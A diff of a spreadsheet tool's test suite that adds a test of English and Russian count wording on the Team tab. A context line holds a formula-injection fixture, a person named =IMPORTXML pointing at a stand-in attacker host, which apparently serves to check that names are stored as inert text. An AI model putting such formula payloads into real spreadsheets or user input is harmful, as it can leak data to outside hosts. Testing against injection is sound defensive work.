@@ -105,6 +105,13 @@ describe('the team in document properties', () => {
 });
 
 describe('the Team tab', () => {
+  it('counts the people it lists in words that agree with the number', () => {
+    emulatorWithGlobals();
+    expect(buildResponsibilityMatrix(teamWith({ people: [ANNA] })).details.at(-1)).toBe('Team tab lists 1 person.');
+    setUserLang('ru');
+    expect(buildResponsibilityMatrix(teamWith({ people: [ANNA, OLEG] })).details.at(-1)).toBe('На листе «Команда» — 2 человека.');
+  });
+
   it('lists the people with role names, costs in the currency, written as text, protected with a warning', () => {
     const emulator = emulatorWithGlobals();
     const hostile = { ...OLEG, name: '=IMPORTXML("http://evil.example", "//a")' };
